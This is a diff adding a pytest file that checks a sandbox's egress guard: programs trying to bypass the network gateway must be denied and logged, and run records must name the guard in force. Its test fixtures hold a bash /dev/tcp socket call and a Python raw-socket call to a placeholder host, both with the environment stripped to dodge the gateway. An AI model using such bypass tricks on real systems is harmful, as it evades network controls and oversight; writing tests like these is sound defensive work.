@@ -1,0 +1,50 @@
+"""Outside calls of whole runs: programs that go around the gateway, and what the record says."""
+
+from __future__ import annotations
+
+import pytest
+
+from pdkernel.egress import available_guard
+from pdkernel.engine.runtime import Runtime
+from pdkernel.execution import OutsideRules
+from tests.builders import bash_step, python_step
+from tests.engine.conftest import Run
+
+AROUND = {
+    "bash": bash_step(
+        "call",
+        "env -i bash -c 'exec 3<>/dev/tcp/192.0.2.7/81; echo never >&3; cat <&3'; echo out=$? >> $PIPEDREAM_EXPORTS",
+    ),
+    "python": python_step(
+        "call",
+        "import subprocess, sys; subprocess.run([sys.executable, '-I', '-S', '-c', "
+        '\'import socket; s = socket.create_connection(("192.0.2.7", 81), 5); s.sendall(b"never"); s.recv(1)\'], env={})',
+    ),
+}
+
+
+@pytest.mark.skipif(available_guard() != "redirect", reason="this system has no seccomp listener for us")
+@pytest.mark.parametrize("language", AROUND)
+async def test_a_program_that_goes_around_the_gateway_is_in_the_ledger(run: Run, language: str) -> None:
+    """A child that throws our variables away is led to the gateway in deny, and its step's row says so."""
+    done = await run(AROUND[language])
+
+    calls = done.step("call").requests
+    assert [(call.url, call.outcome, call.step) for call in calls] == [("tcp://192.0.2.7:81", "denied", "call")]
+
+
+async def test_the_record_says_which_guard_was_in_force(run: Run, runtime: Runtime) -> None:
+    """History names the mode and the guard of a run that was not live."""
+    done = await run(python_step("one"))
+
+    kept = await runtime.journal.execution(done.id)
+
+    assert kept is not None
+    assert kept.outside_calls == done.outside_calls == OutsideRules("deny", available_guard())
+
+
+async def test_a_live_run_has_no_guard(run: Run) -> None:
+    """Where nothing is stopped there is nothing to say."""
+    done = await run(python_step("one"), egress="live")
+
+    assert done.outside_calls is None
